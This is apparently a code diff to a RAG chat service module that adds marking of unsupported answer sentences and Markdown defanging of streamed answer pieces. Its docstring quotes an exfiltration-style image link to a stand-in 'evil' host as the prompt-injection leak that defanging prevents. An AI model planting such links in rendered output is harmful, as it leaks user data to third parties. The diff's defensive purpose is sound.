@@ -5,6 +5,8 @@
   the chat uses (`Pipeline.ask_stream(history=...)`, which condenses a follow-up).
 - `sources_footer` / `strip_footer`: the plain-text Sources list under an answer, and
   its removal when a client sends our own answer back as history.
+- `content`: the checked answer as a chat client shows it: unsupported sentences
+  marked `[unsupported]` (as `rag ask` does), the footer.
 - `defang`: answers and titles quote articles, which are untrusted; chat clients
   render Markdown, so an article's `![](https://evil/?q=...)` would load an image (a
   zero-click leak) and `[text](url)` would become a link. A WORD JOINER (U+2060,
@@ -23,13 +25,13 @@ from typing import Any
 
 from rag.api import Pipeline
 from rag.config import OFFLINE_MODEL, LLMSettings, Settings
-from rag.generate import Delta, Final
 from rag.types import Answer, Citation
 
 from .errors import ApiError, not_found_model
 
 MODEL = "rag"
 FOOTER_HEAD = "\n\nSources:\n"
+UNSUPPORTED = "[unsupported]"
 WJ = "\u2060"
 _ACTIVE = re.compile(r"!\[|\]\(|<(?=[A-Za-z/!?])")
 
@@ -40,26 +42,6 @@ _ACTIVE = re.compile(r"!\[|\]\(|<(?=[A-Za-z/!?])")
 def defang(text: str) -> str:
     """Markdown images, inline links and HTML tags made inert (see the module doc)."""
     return _ACTIVE.sub(lambda m: m.group(0)[0] + WJ + m.group(0)[1:], text)
-
-
-class StreamDefang:
-    """`defang` for streamed pieces: holds back a trailing `!`, `]` or `<`, so the
-    pieces joined equal `defang(whole text)`."""
-
-    def __init__(self) -> None:
-        self.held = ""
-
-    def feed(self, piece: str) -> str:
-        text = self.held + piece
-        cut = len(text)
-        if text and text[-1] in "!]<":
-            cut -= 1
-        self.held = text[cut:]
-        return defang(text[:cut]) if cut else ""
-
-    def finish(self) -> str:
-        out, self.held = self.held, ""
-        return defang(out)
 
 
 # --------------------------------------------------------------------------- sources
@@ -82,6 +64,40 @@ def sources_footer(citations: Sequence[Citation]) -> str:
 def strip_footer(text: str) -> str:
     head, sep, _ = text.rpartition(FOOTER_HEAD)
     return head if sep else text
+
+
+def _marked_parts(answer: Answer) -> list[str]:
+    """The answer text cut after each checked sentence, each unsupported sentence
+    followed by `[unsupported]` (as `rag ask` prints it)."""
+    text, parts, pos = answer.text, [], 0
+    for x in answer.sentences:
+        if pos < x.end <= len(text):
+            unsupported = x.claim and not x.supported and x.end > x.start
+            parts.append(text[pos : x.end] + (f" {UNSUPPORTED}" if unsupported else ""))
+            pos = x.end
+    parts.append(text[pos:])
+    return [p for p in parts if p]
+
+
+def content(answer: Answer, footer: bool) -> str:
+    """A chat completion's content: the checked answer, made inert for Markdown, with
+    the Sources footer (and the note on unsupported sentences) when asked for."""
+    return "".join(content_pieces(answer, footer))
+
+
+def content_pieces(answer: Answer, footer: bool) -> list[str]:
+    """`content` in streamable pieces: one per sentence, then the footer."""
+    parts = _marked_parts(answer)
+    pieces = [defang(p) for p in parts]
+    whole = defang("".join(parts))
+    if "".join(pieces) != whole:  # a Markdown construct across a sentence end
+        pieces = [whole]
+    if footer:
+        tail = sources_footer(answer.citations)
+        if any(x.claim and not x.supported for x in answer.sentences):
+            tail += f"\n\n{UNSUPPORTED}: no passage shown supports that sentence."
+        pieces.append(tail)
+    return [p for p in pieces if p]
 
 
 # --------------------------------------------------------------------------- messages
@@ -235,11 +251,10 @@ def answer_extras(answer: Answer) -> tuple[list[dict[str, Any]], dict[str, Any]]
 __all__ = [
     "FOOTER_HEAD",
     "MODEL",
-    "Delta",
-    "Final",
     "Service",
-    "StreamDefang",
     "answer_extras",
+    "content",
+    "content_pieces",
     "conversation",
     "defang",
     "sources_footer",
